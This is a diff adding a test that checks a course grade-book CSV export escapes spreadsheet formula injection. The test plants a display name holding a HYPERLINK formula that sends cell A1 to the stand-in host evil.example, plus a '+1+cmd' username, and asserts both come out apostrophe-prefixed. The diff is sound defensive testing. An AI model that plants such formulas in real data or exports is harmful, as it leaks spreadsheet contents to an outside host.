@@ -96,3 +96,24 @@ def test_course_list_query_count_does_not_grow_with_courses(catalogue, make_user
             client.get("/courses/")
         counts.append(len(queries))
     assert counts[0] == counts[1], counts
+
+
+def test_grade_book_csv_shows_hostile_names_as_text_not_formulas(setup, client):
+    # given students whose display name and username a spreadsheet would run as formulas
+    course, assignment, students = setup
+    students[0].display_name = '=HYPERLINK("http://evil.example/?"&A1,"grades")'
+    students[0].save(update_fields=["display_name"])
+    students[1].username = "+1+cmd"
+    students[1].save(update_fields=["username"])
+    client.force_login(factories.instructor_of(course))
+
+    # when the instructor exports the grade book
+    text = client.get(f"/courses/assignments/{assignment.pk}/grades.csv").content.decode("utf-8-sig")
+    rows = {row["email"]: row for row in csv.DictReader(io.StringIO(text))}
+
+    # then each hostile cell arrives whole, prefixed with an apostrophe, and the metrics are untouched
+    assert rows[students[0].email]["name"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"grades")'
+    assert rows[students[1].email]["username"] == "'+1+cmd"
+    assert rows[students[1].email]["accuracy"] == "0.6"
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
